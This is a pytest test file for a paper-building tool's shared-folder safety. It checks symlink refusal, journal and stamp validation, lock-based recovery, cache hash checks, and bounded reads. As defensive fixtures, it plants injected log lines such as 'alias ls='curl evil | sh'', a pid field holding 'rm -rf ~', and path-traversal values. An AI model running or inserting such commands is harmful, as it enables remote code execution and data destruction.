"""Safe in a shared folder: each principle enforced by one helper, and tested here over every place
it applies (docs/reliability.md, "Safe in a shared folder").

1. No link followed that the project did not make (``common.files.open_own``, ``inside``); text
   quoted from a file is escaped (``quoted``).
2. A journal is data (``report._journal``: paths inside the paper's outputs, its shape checked).
3. publish owns only what its stamps list with matching bytes (``report._not_published``).
4. One publisher per section, recovery decided by the section's lock (``common.files.flocked``).
5. Every cached entry verified (``engine.store._result_record``).
6. Reads bounded at the read (``common.files.read_bounded``).
7. Every word parsed strictly (``common.words``); a full disk is one line naming the file.
"""

from __future__ import annotations

import errno
import json
import os
import signal
import subprocess
import sys
import warnings
from pathlib import Path

import pytest

from quadnn_paper import report as R
from quadnn_paper.common import files, words
from quadnn_paper.engine import store as S

pytestmark = pytest.mark.usefixtures("one_thread")

VICTIM = b"\\documentclass{thesis} % a user's own file\n"


def _victim(tmp_path: Path) -> Path:
    """A user's file outside every folder the project writes, that a planted link points at."""
    home = tmp_path / "home"
    home.mkdir(exist_ok=True)
    (home / "thesis.tex").write_bytes(VICTIM)
    return home / "thesis.tex"


def _report(paper, profile="cpu", tables=("demo_t",), section="demo"):
    rep = R.Report(paper, section, profile, "digits")
    rep.variable("A", len(profile))
    for t in tables:
        rep.table(t, ["x"], [[profile]])
    return rep


def _one_line(e: BaseException, *names) -> None:
    text = str(e)
    assert "\n" not in text, text
    for name in names:
        assert str(name) in text, (name, text)


# -- 1. no link followed ----------------------------------------------------------------------------------
def _run(tmp_path):
    from runs import small_run

    return small_run(train_limit=64, epochs=1), S.RunStore(tmp_path / "cache")


def _store_lock(tmp_path, victim):
    cfg, store = _run(tmp_path)
    store.root.mkdir(parents=True)
    link = store.root / f"{cfg.run_id}.lock"
    link.symlink_to(victim)
    return lambda: store.lock(cfg.run_id).__enter__(), link


def _store_file(name):
    def plant(tmp_path, victim):
        cfg, store = _run(tmp_path)
        store.dir(cfg).mkdir(parents=True)
        link = store.dir(cfg) / name
        link.symlink_to(victim)
        if name == "result.json":
            return lambda: store.result(cfg), link
        if name == "manifest.json":
            return lambda: store.load_checkpoint(cfg, "last.pt") or store.write_result(cfg, {}), link
        return lambda: store.load_checkpoint(cfg, name), link

    return plant


def _run_folder(tmp_path, victim):
    cfg, store = _run(tmp_path)
    store.root.mkdir(parents=True)
    (store.root / cfg.run_id).symlink_to(victim.parent, target_is_directory=True)
    return lambda: store.write_result(cfg, {}), store.root / cfg.run_id


def _quarantine_log(tmp_path, victim):
    folder = tmp_path / "cache" / "run"
    folder.mkdir(parents=True)
    (folder / "result.json").write_text("{")
    link = folder / S.QUARANTINE_LOG
    link.symlink_to(victim)

    def call():
        with warnings.catch_warnings(record=True) as seen:
            warnings.simplefilter("always")
            S.quarantine(folder / "result.json", "damaged")
        raise files.RefusedFile(0, str(seen[0].message))  # (quarantine itself goes on: it only warns)

    return call, link


def _cached_entry(tmp_path, victim):
    from quadnn_paper.engine.config import run_id

    root = tmp_path / "cache" / "sweep"
    root.mkdir(parents=True)
    link = root / f"{run_id({'n': 1})}.json"
    link.symlink_to(victim)
    return lambda: S.cached(tmp_path / "cache", "sweep", {"n": 1}, lambda: {"v": 1}), link


def _cache_folder(name):
    def plant(tmp_path, victim):
        from quadnn_paper.execution.execute import execute_work

        cache = tmp_path / "cache"
        cache.mkdir()
        (cache / name).symlink_to(victim.parent, target_is_directory=True)
        if name == "runs":
            return lambda: execute_work([], cache, "inline"), cache / name
        return lambda: S.cached(cache, name, {"n": 1}, lambda: {"v": 1}), cache / name

    return plant


def _paper_link(where):
    def plant(tmp_path, victim):
        paper = tmp_path / "paper"
        _report(paper).commit()
        link = paper / where
        if link.is_dir():
            for p in link.iterdir():
                p.rename(victim.parent / p.name)
            link.rmdir()
            link.symlink_to(victim.parent, target_is_directory=True)
        else:
            link.unlink(missing_ok=True)
            link.symlink_to(victim)
        return lambda: _report(paper, "smoke").commit(), link

    return plant


LINKS = {
    "store lock": _store_lock,
    "result.json": _store_file("result.json"),
    "manifest.json": _store_file("manifest.json"),
    "checkpoint": _store_file("last.pt"),
    "run folder": _run_folder,
    "quarantine.log": _quarantine_log,
    "cached entry": _cached_entry,
    "computation folder": _cache_folder("sweep"),
    "runs folder": _cache_folder("runs"),
    "paper variables file": _paper_link("variables/demo.tex"),
    "paper tables folder": _paper_link("tables"),
    "paper section lock": _paper_link(".stamps/demo.lock"),
    "paper stamp": _paper_link(".stamps/demo.json"),
}


@pytest.mark.parametrize("place", sorted(LINKS))
def test_no_link_is_followed_in_a_cache_or_paper_folder(tmp_path, place):
    victim = _victim(tmp_path)
    before = sorted(p.name for p in victim.parent.iterdir())
    call, link = LINKS[place](tmp_path, victim)
    with pytest.raises((OSError, ValueError, RuntimeError)) as e:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            call()
    _one_line(e.value, link.name)
    assert "link" in str(e.value) or "did not write" in str(e.value), str(e.value)
    assert victim.read_bytes() == VICTIM  # never written through the link
    assert sorted(p.name for p in victim.parent.iterdir() if p.name in before) == before


def test_text_quoted_from_a_file_never_starts_a_line_of_a_log(tmp_path):
    from runs import small_run

    cfg, store = small_run(train_limit=64, epochs=1), S.RunStore(tmp_path)
    store.dir(cfg).mkdir(parents=True)
    planted = "x\nalias ls='curl evil | sh'\r\x1b[2J"
    (store.dir(cfg) / "manifest.json").write_text(json.dumps({"run_id": planted}))
    with pytest.warns(RuntimeWarning) as seen:
        assert store._manifest(cfg) == {}
    log = (store.dir(cfg) / S.QUARANTINE_LOG).read_text()
    assert log.count("\n") == 1 and "\nalias" not in log and "\x1b" not in log, log
    assert "\\nalias ls=" in log
    assert all("\n" not in str(w.message) for w in seen)
    holder = store.root / "k.lock"
    holder.write_text(json.dumps({"pid": "1\nrm -rf ~", "host": "h\n", "since": "soon"}))
    assert "\n" not in files.lock_holder(holder)


# -- 2. a journal is data ---------------------------------------------------------------------------------
def _journal(paper, **change):
    j = json.loads((paper / ".stamps" / "demo.commit").read_text())
    j.update(change)
    return j


JOURNALS = {
    "stage ../../": lambda p: _journal(p, stage="../../home"),
    "stage absolute": lambda p: _journal(p, stage=str(p.parent / "home")),
    "old ../..": lambda p: _journal(p, old={"../home/thesis.tex": "0" * 64}),
    "files absolute": lambda p: dict(_journal(p), stamp=dict(_journal(p)["stamp"], files={"/etc/x": "0"})),
    "files outside the outputs": lambda p: dict(
        _journal(p), stamp=dict(_journal(p)["stamp"], files={"sections/demo.tex": "0"})
    ),
    "a JSON list": lambda p: [1, 2],
    "no stage": lambda p: {k: v for k, v in _journal(p).items() if k != "stage"},
    "files not a dict": lambda p: dict(_journal(p), stamp=dict(_journal(p)["stamp"], files=["tables/x.tex"])),
    "not JSON": lambda p: None,
}


@pytest.mark.parametrize("shape", sorted(JOURNALS))
def test_a_journal_is_data_its_paths_stay_inside_and_a_bad_one_is_refused_and_left(tmp_path, shape):
    victim = _victim(tmp_path)
    paper = tmp_path / "paper"
    _report(paper).commit()
    rep = _report(paper, "smoke")
    # a journal as a kill would leave it (written, not carried out), then rewritten as the case says
    previous = R._stamp_files(paper / ".stamps" / "demo.json")
    stamp = dict(section="demo", profile="smoke", data="d", notebook="demo", files={})
    journal = paper / ".stamps" / "demo.commit"
    journal.write_text(json.dumps(dict(stage=rep._stage.name, stamp=stamp, old=previous)))
    bad = JOURNALS[shape](paper)
    journal.write_text("{not json" if bad is None else json.dumps(bad))
    text = journal.read_text()
    with pytest.warns(RuntimeWarning, match="not a commit journal") as seen:
        R.recover(paper)  # every publish's recover: warned, left, not a traceback
    _one_line(seen[0].message, journal)
    with pytest.raises(R.BadJournal) as e, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # (its recover warns, as above)
        _report(paper, "smoke").commit()  # the section's own commit refuses, naming the journal
    _one_line(e.value, journal, "left as it is")
    assert journal.read_text() == text and victim.read_bytes() == VICTIM
    assert R.stamps(paper)["demo"]["profile"] == "cpu"  # the previous commit's outputs, untouched
    rep.discard()


def test_a_stamp_naming_a_path_outside_the_outputs_is_not_a_stamp(tmp_path):
    victim = _victim(tmp_path)
    paper = tmp_path / "paper"
    _report(paper).commit()
    stamp = paper / ".stamps" / "demo.json"
    st = json.loads(stamp.read_text())
    st["files"]["../home/thesis.tex"] = files.sha256_file(victim)
    stamp.write_text(json.dumps(st))
    assert any("../home/thesis.tex" in p for p in R.problems(paper, "cpu"))
    with pytest.raises(R.NotPublished):  # a stamp that is not one vouches for nothing: refused
        _report(paper, "smoke").commit()
    assert victim.read_bytes() == VICTIM


def test_a_standin_record_naming_a_path_out_never_removes_it(tmp_path):
    from quadnn_paper.data import imagefolder, standin

    victim = _victim(tmp_path)
    root = tmp_path / "digits"
    imagefolder.write_digits_folder(root, size=8, max_per_class=1)
    record = json.loads((root / standin.RECORD).read_text())
    record["files"]["../home/thesis.tex"] = [files.sha256_file(victim)]  # forged, with the right hash
    (root / standin.RECORD).write_text(json.dumps(record))
    imagefolder.write_digits_folder(root, size=9, max_per_class=1)  # a rewrite removes what it recorded
    assert victim.read_bytes() == VICTIM


# -- 3. publish owns only what its stamps list with matching bytes ---------------------------------------
def _users_file(rel):
    def case(paper):
        (paper / rel).parent.mkdir(parents=True, exist_ok=True)
        (paper / rel).write_text("% the user's own\n")
        return lambda: _report(paper, "smoke", ("demo_t", "mine")).commit(), rel

    return case


def _edited_then_replaced(paper):
    _report(paper, "cpu", ("demo_t", "full_cost")).commit()
    (paper / "tables" / "demo_t.tex").write_text("% edited by hand\n")
    return lambda: _report(paper, "smoke", ("demo_t",)).commit(), "tables/demo_t.tex"


def _edited_then_removed(paper):
    _report(paper, "cpu", ("demo_t", "full_cost")).commit()
    (paper / "tables" / "full_cost.tex").write_text("% edited by hand\n")
    return lambda: _report(paper, "smoke", ("demo_t",)).commit(), "tables/full_cost.tex"


OWNERSHIP = {
    "a user's variables file": _users_file("variables/demo.tex"),
    "a user's table": _users_file("tables/mine.tex"),
    "a table edited, then rewritten": _edited_then_replaced,
    "a table edited, then no longer written": _edited_then_removed,
}


@pytest.mark.parametrize("case", sorted(OWNERSHIP))
def test_publish_replaces_or_removes_only_what_its_stamps_list_with_matching_bytes(tmp_path, case):
    paper = tmp_path / "paper"
    paper.mkdir()
    publish, rel = OWNERSHIP[case](paper)

    def state():
        found = (p for p in paper.rglob("*") if p.is_file() and p.suffix != ".lock" and ".staging" not in p.parts)
        return {str(p.relative_to(paper)): p.read_bytes() for p in found}

    before = state()
    with pytest.raises(R.NotPublished) as e:
        publish()
    _one_line(e.value, rel, "nothing was changed")
    assert state() == before  # not a byte changed, the stamp included
    assert not list((paper / ".staging").iterdir())  # its stage dropped


def test_publish_over_its_own_bytes_without_a_stamp_is_no_change_and_allowed(tmp_path):
    paper = tmp_path / "paper"
    _report(paper).commit()
    (paper / ".stamps" / "demo.json").unlink()  # a stamp lost; the files are publish's bytes
    _report(paper).commit()
    assert R.problems(paper, "cpu") == []


# -- 4. one publisher per section ------------------------------------------------------------------------
PUBLISHER = """
import sys
from quadnn_paper import report as R
paper, profile = sys.argv[1], sys.argv[2]
for i in range(6):
    rep = R.Report(paper, "demo", profile, "digits")
    rep.variable("A", i)
    rep.table("demo_t", ["x"], [[profile]])
    if profile == "cpu":
        rep.table("full_cost", ["x"], [[i]])
    rep.commit()
print("ok")
"""


def test_two_publishers_of_one_section_commit_one_after_the_other(tmp_path):
    paper = tmp_path / "paper"
    procs = [
        subprocess.Popen([sys.executable, "-c", PUBLISHER, str(paper), p], stdout=subprocess.PIPE, text=True)
        for p in ("cpu", "smoke")
    ]
    assert [p.communicate(timeout=120)[0].strip() for p in procs] == ["ok", "ok"]
    stamp = R.stamps(paper)["demo"]
    assert R.problems(paper, stamp["profile"]) == []
    assert (paper / "tables" / "full_cost.tex").exists() == (stamp["profile"] == "cpu")
    assert not list((paper / ".staging").iterdir()) and not list((paper / ".stamps").glob("*.commit"))


HOLDER = """
import sys, time
from quadnn_paper.common import files
fd = files.flock_fd(sys.argv[1])
print("held", flush=True)
time.sleep(60)
"""


def test_recovery_is_decided_by_the_sections_lock_never_by_a_pid(tmp_path):
    paper = tmp_path / "paper"
    _report(paper, "cpu", ("demo_t", "full_cost")).commit()
    rep = _report(paper, "smoke")
    stamp = dict(
        section="demo",
        profile="smoke",
        data="digits",
        notebook="demo",
        files={r: R._sha256(rep._stage / r) for r in rep._files},
    )
    journal = dict(stage=rep._stage.name, stamp=stamp, old=R._stamp_files(paper / ".stamps" / "demo.json"))
    # a killed commit whose pid is now another live process's (pids wrap): the journal names one
    (paper / ".stamps" / "demo.commit").write_text(json.dumps(dict(journal, pid=os.getppid())))
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLDER, str(paper / ".stamps" / "demo.lock")], stdout=subprocess.PIPE, text=True
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        assert R.recover(paper) == []  # its lock is held: a publisher is at work, left alone
    finally:
        holder.send_signal(signal.SIGKILL)
        holder.wait()
    assert R.recover(paper) == ["demo"]  # the lock is free: finished, whatever the pid says
    assert R.problems(paper, "smoke") == [] and not (paper / "tables" / "full_cost.tex").exists()
    rep.discard()


def test_a_stage_is_removed_only_when_its_reports_lock_is_free(tmp_path):
    paper = tmp_path / "paper"
    live = _report(paper, "smoke")
    dead = paper / ".staging" / "demo.0123456789ab"
    (dead / "tables").mkdir(parents=True)  # a stage whose writer died (no lock held)
    R.recover(paper)
    assert live._stage.is_dir() and not dead.exists()
    live.commit()
    assert not list((paper / ".staging").iterdir())


# -- 5. every cached entry verified -----------------------------------------------------------------------
def _digit(entry):
    entry["result"]["v"] = 2.5000001
    return entry


CACHE_DAMAGE = {
    "one digit of the result": _digit,
    "no record (written before records)": lambda e: {k: v for k, v in e.items() if k != "record"},
    "another record": lambda e: dict(e, record=dict(e["record"], sha256="0" * 64)),
    "a record of another shape": lambda e: dict(e, record=[1]),
}


@pytest.mark.parametrize("damage", sorted(CACHE_DAMAGE))
def test_every_cached_entry_is_verified_and_a_damaged_one_recomputed_never_served(tmp_path, damage):
    calls = []

    def compute():
        calls.append(1)
        return {"v": 2.5, "rows": [1, 2]}

    assert S.cached(tmp_path, "runge", {"n": 3}, compute) == {"v": 2.5, "rows": [1, 2]}
    (entry,) = (tmp_path / "runge").glob("*.json")
    entry.write_text(json.dumps(CACHE_DAMAGE[damage](json.loads(entry.read_text()))))
    with pytest.warns(RuntimeWarning, match="SHA-256"):
        assert S.cached(tmp_path, "runge", {"n": 3}, compute) == {"v": 2.5, "rows": [1, 2]}
    assert len(calls) == 2 and list((tmp_path / "runge").glob("*.json.corrupt-*"))
    assert S.cached(tmp_path, "runge", {"n": 3}, compute) == {"v": 2.5, "rows": [1, 2]} and len(calls) == 2


# -- 6. reads bounded at the read -------------------------------------------------------------------------
def _fifo(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(path)
    return path


def _zero(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to("/dev/zero")
    return path


def _cifar(make):
    def case(root, monkeypatch):
        from quadnn_paper.data import cifar

        return lambda: cifar.load_cifar_batch(make(root / "data_batch_1")), "data_batch_1"

    return case


def _cifar_over_bound(root, monkeypatch):
    from quadnn_paper.data import cifar

    root.mkdir(parents=True)
    (root / "data_batch_1").write_bytes(b"x" * 101)
    monkeypatch.setattr(cifar, "MAX_BATCH_BYTES", 100)
    return lambda: cifar.load_cifar_batch(root / "data_batch_1"), "bound of 100 bytes"


def _imagefolder(make):
    def case(root, monkeypatch):
        from quadnn_paper.data import imagefolder

        imagefolder.write_digits_folder(root, size=8, max_per_class=1)
        make(root / "train" / "0" / "planted.png")
        return lambda: imagefolder.datasets(root, 8, 8), "planted.png"

    return case


def _image_reader(make, reader):
    def case(root, monkeypatch):
        from quadnn_paper.data import imagefolder, kitti

        read = dict(imagefolder=imagefolder.load_rgb, kitti_depth=kitti.read_depth_png)[reader]
        return lambda: read(str(make(root / "img.png"))), "img.png"

    return case


def _image_over_bound(root, monkeypatch):
    from quadnn_paper.data import imagefolder, kitti

    root.mkdir(parents=True)
    (root / "img.png").write_bytes(b"\x89PNG" + bytes(200))
    monkeypatch.setattr(kitti, "MAX_IMAGE_BYTES", 100)
    return lambda: imagefolder.load_rgb(str(root / "img.png")), "bound of 100 bytes"


def _kitti(make, what):
    def case(root, monkeypatch):
        from quadnn_paper.data import kitti

        kitti.write_synthetic_kitti(root, 1, 1, 8, 24)
        if what == "split":
            split = root / "splits" / "eigen_train_files.txt"
            split.unlink()
            make(split)
            return lambda: kitti.KittiSplit(root, "splits/eigen_train_files.txt"), "eigen_train_files.txt"
        depth = root / "synthetic/drive_train/proj_depth/groundtruth/image_02/0000000000.png"
        depth.unlink()
        make(depth)
        return lambda: kitti.KittiSplit(root, "splits/eigen_train_files.txt"), "0000000000.png"

    return case


READS = {
    "cifar batch, a FIFO": _cifar(_fifo),
    "cifar batch, a link to /dev/zero": _cifar(_zero),
    "cifar batch over its bound": _cifar_over_bound,
    "imagefolder, a FIFO named like an image": _imagefolder(_fifo),
    "imagefolder, a link to /dev/zero": _imagefolder(_zero),
    "imagefolder image, a FIFO": _image_reader(_fifo, "imagefolder"),
    "kitti depth map, a FIFO": _image_reader(_fifo, "kitti_depth"),
    "image over its bound": _image_over_bound,
    "kitti split file, a FIFO": _kitti(_fifo, "split"),
    "kitti depth map listed, a link to /dev/zero": _kitti(_zero, "depth"),
}


@pytest.mark.parametrize("case", sorted(READS))
def test_every_loader_reads_regular_files_only_and_at_most_its_bound(tmp_path, monkeypatch, case):
    read, name = READS[case](tmp_path / "data", monkeypatch)
    signal.signal(signal.SIGALRM, lambda *a: pytest.fail("blocked on a FIFO"))
    signal.alarm(20)
    try:
        with pytest.raises((ValueError, OSError)) as e:
            read()
    finally:
        signal.alarm(0)
    _one_line(e.value, name)


# -- 7. every word parsed strictly; a full disk is one line ----------------------------------------------
@pytest.mark.parametrize(
    "value, on", [("1", True), ("yes", True), ("True", True), (" no ", False), ("0", False), ("false", False)]
)
def test_one_boolean_reader_reads_the_words(value, on, monkeypatch):
    assert words.boolean(value, "X") is on
    monkeypatch.setenv("QUADNN_WAIT", value)
    assert words.env_boolean("QUADNN_WAIT", default=not on) is on


WORDS = {
    "QUADNN_WAIT=maybe": lambda t, m: (m.setenv("QUADNN_WAIT", "maybe"), _execute(t))[1],
    "boolean 'on'": lambda t, m: words.boolean("on", "TINY"),
    "boolean 2": lambda t, m: words.boolean(2, "TINY"),
    "cache_dir=''": lambda t, m: _execute(""),
    "cached cache_dir=''": lambda t, m: S.cached("", "x", {}, lambda: 1),
    "RunStore('')": lambda t, m: S.RunStore(""),
    "paper_dir=''": lambda t, m: R.Report("", "demo", "smoke", "digits"),
}


def _execute(cache):
    from quadnn_paper.execution.execute import execute_work

    return execute_work([], cache, "local")


@pytest.mark.parametrize("case", sorted(WORDS))
def test_every_word_is_parsed_strictly_and_an_empty_path_refused(tmp_path, monkeypatch, case):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ValueError) as e:
        WORDS[case](tmp_path, monkeypatch)
    _one_line(e.value)
    assert ("1, true, yes" in str(e.value)) or ("not a folder" in str(e.value)), str(e.value)
    assert list(tmp_path.iterdir()) == []  # nothing written into the current folder


@pytest.mark.parametrize("value, exported", [("no", "0"), ("false", "0"), ("0", "0"), ("yes", "1"), ("", "")])
def test_make_passes_wait_as_one_boolean(value, exported):
    import shutil

    if shutil.which("make") is None:
        pytest.skip("needs make")
    repo = Path(__file__).resolve().parents[1]
    probe = ["make", "-s", "--no-print-directory", "-f", "Makefile", "-f", "-", "probe", f"WAIT={value}"]
    recipe = 'probe:\n\t@echo "[$$QUADNN_WAIT]"\n'
    done = subprocess.run(probe, cwd=repo, input=recipe, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip().splitlines()[-1] == f"[{exported}]"  # what execute() reads with env_boolean


def test_make_refuses_wait_that_is_not_a_boolean_naming_it():
    import shutil

    if shutil.which("make") is None:
        pytest.skip("needs make")
    repo = Path(__file__).resolve().parents[1]
    done = subprocess.run(["make", "-n", "status", "WAIT=maybe"], cwd=repo, capture_output=True, text=True, timeout=60)
    assert done.returncode != 0 and "WAIT=maybe is not a boolean" in done.stderr and "1/true/yes" in done.stderr


def _figure(paper):
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    rep = R.Report(paper, "demo", "smoke", "digits")
    fig, ax = plt.subplots()
    ax.plot([0, 1])
    ax.set(xlabel="step", ylabel="value")
    return lambda: rep.figure(fig, "demo_f"), "demo_f"


WRITERS = {
    "figure": _figure,
    "table": lambda p: (R.Report(p, "demo", "smoke", "d").table, "t.csv"),
    "variables": lambda p: (lambda: R.Report(p, "demo", "smoke", "d"), "demo.tex"),
    "cached entry": lambda p: (lambda: S.cached(p, "runge", {"n": 1}, lambda: 1), ".json"),
    "run result": lambda p: (lambda: _run(p)[1].write_result(_run(p)[0], {}), "result.json"),
}


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_a_full_disk_in_any_writer_is_one_line_naming_the_file(tmp_path, monkeypatch, writer):
    call, name = WRITERS[writer](tmp_path / "out")
    if writer == "table":
        call = (lambda table: lambda: table("t", ["x"], [[1]]))(call)

    def full(fd):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(files.os, "fsync", full)
    with pytest.raises(files.CacheWriteError, match="no space left") as e:
        call()
    _one_line(e.value, name)
    assert e.value.__cause__ is None and e.value.__suppress_context__
